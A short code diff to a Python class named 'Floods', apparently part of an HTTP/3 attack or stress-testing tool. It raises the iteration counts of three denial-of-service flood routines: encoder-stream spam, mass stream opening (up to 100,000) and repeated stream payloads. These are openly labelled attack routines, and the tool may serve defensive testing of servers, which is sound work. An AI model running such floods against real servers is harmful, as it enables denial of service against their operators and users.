@@ -165,7 +165,7 @@ class Floods(H3Attack):
         def work():
             conn = self.open()
             conn.send_stream(ENCODER, CAPACITY + b"\xc0\0")
-            for _ in range(200):
+            for _ in range(2000):
                 if conn.closed:
                     break
                 conn.send_stream(ENCODER, bytes(1000))
@@ -230,7 +230,7 @@ class Floods(H3Attack):
 
         def work():
             conn = self.open()
-            for i in range(1500):
+            for i in range(100_000):  # there may be as many again in each ten seconds
                 if conn.closed:
                     break
                 sid = next(conn.next_stream)
@@ -249,7 +249,7 @@ class Floods(H3Attack):
             def work():
                 conn = self.open()
                 conn.send_stream(sid, first)
-                for _ in range(300):
+                for _ in range(3000):
                     if conn.closed:
                         break
                     conn.send_stream(sid, again * 100)
